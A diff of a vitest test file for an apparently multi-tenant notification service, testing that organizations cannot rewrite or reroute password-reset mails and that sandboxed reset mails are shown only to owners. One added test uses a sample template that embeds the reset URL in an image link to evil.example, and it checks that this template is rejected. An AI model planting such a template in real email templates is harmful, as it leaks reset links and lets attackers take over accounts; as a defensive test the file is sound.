@@ -1,6 +1,5 @@
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { PASSWORD, SAME_ORIGIN, startTestApp, type TestApp } from '../../../test/app.ts'
-import { type PretendServer, startPretendServer } from '../providers/smtp/pretend-server.ts'
 
 let app: TestApp
 beforeAll(async () => {
@@ -259,57 +258,39 @@ describe('the mail', () => {
   })
 })
 
-describe('whoever runs an organization’s mail server', () => {
-  const at = (server: PretendServer) => ({
-    host: '127.0.0.1',
-    port: server.port,
-    from: 'Sample sender <hello@example.com>',
-  })
-  const account = (server: PretendServer) => ({
-    provider: 'smtp',
-    channel: 'email',
-    name: 'Of our own',
-    settings: at(server),
-  })
-  const SUBJECT = /^Subject: (.*)$/m
-  const subjects = ({ mails }: PretendServer) => mails.map((mime) => SUBJECT.exec(mime.toString())?.[1]?.trim())
-
-  test('does not read a link that lets a member in: it goes by the platform’s', async () => {
-    const [platform, theirs] = [await startPretendServer(), await startPretendServer()]
-    const product = await startTestApp({
-      smtp: { ...at(platform), secure: false, user: undefined, password: undefined },
-    })
-    try {
-      expect((await product.post('/v1/providers', account(theirs))).status).toBe(201)
-      const email = `somebody${++count}@example.org`
-      await product.signedIn(email)
-      const asked = { key: null, headers: SAME_ORIGIN }
-      for (const path of ['/request-password-reset', '/sign-in/magic-link'])
-        expect((await product.call('POST', `/api/auth${path}`, { email }, asked)).status).toBe(202)
-      const payload = { subject: 'A sample', body: 'Its words.' }
-      const usual = { type: 'message.custom', to: { email }, payload, channels: ['email'] }
-      expect((await product.post('/v1/notifications', usual)).status).toBe(202)
-      await product.eventually(async () => platform.mails.length === 2 && theirs.mails.length === 1)
-      expect(subjects(theirs)).toEqual(['A sample'])
-    } finally {
-      await product.stop()
-      await Promise.all([platform.stop(), theirs.stop()])
-    }
+describe('an organization', () => {
+  test('neither words these mails nor sends them another way', async () => {
+    const { email, headers } = await somebody()
+    const { key } = app
+    const at = '/v1/templates/member.password_reset.member/email/en'
+    const live = (await app.get(at)).body
+    const source = { subject: 'x', body: '<mj-image src="https://evil.example/{{resetUrl}}" />' }
+    const saved = await app.call('PUT', `${at}/draft`, { source, revision: 0 }, { key })
+    const published = await app.call('POST', `${at}/publish`, { source }, { key })
+    expect([saved.status, published.status]).toEqual([409, 409])
+    expect((await app.get(at)).body).toEqual(live)
+    const chosen = await app.call(
+      'PATCH',
+      '/v1/catalogue/member.password_reset/member',
+      { channels: { firstOf: ['in_app', 'email'] } },
+      { key: null, headers },
+    )
+    expect([chosen.status, chosen.body.errors[0].path]).toEqual([422, 'channels'])
+    expect((await forgot(email)).status).toBe(202)
+    expect(await tokenOf(email, 'reset-password')).toBeTruthy()
   })
 
-  test('carries it only where the platform has nothing but the sandbox, which others could look into', async () => {
-    const theirs = await startPretendServer()
-    const product = await startTestApp()
-    try {
-      expect((await product.post('/v1/providers', account(theirs))).status).toBe(201)
-      const email = `somebody${++count}@example.org`
-      await product.signedIn(email)
-      await product.call('POST', '/api/auth/request-password-reset', { email }, { key: null, headers: SAME_ORIGIN })
-      await product.eventually(async () => theirs.mails.length === 1)
-      expect((await product.get('/v1/sandbox/messages')).body.items).toEqual([])
-    } finally {
-      await product.stop()
-      await theirs.stop()
-    }
+  test('shows what lets somebody in, in its sandbox, to those alone who decide who comes in', async () => {
+    const { email, headers: owner } = await somebody()
+    await resetToken(email)
+    const staff = await app.signedIn(`somebody${++count}@example.org`, { role: 'staff' })
+    const list = async (headers: Record<string, string>) =>
+      (await app.call('GET', '/v1/sandbox/messages', undefined, { key: null, headers })).body.items
+    const [mail] = (await list(owner)).filter((one: { address: string }) => one.address === email)
+    expect(mail).toBeDefined()
+    expect((await list(staff)).map((one: { address: string }) => one.address)).not.toContain(email)
+    const read = (headers: Record<string, string>) =>
+      app.call('GET', `/v1/sandbox/messages/${mail.id}`, undefined, { key: null, headers })
+    expect([(await read(owner)).status, (await read(staff)).status]).toEqual([200, 404])
   })
 })
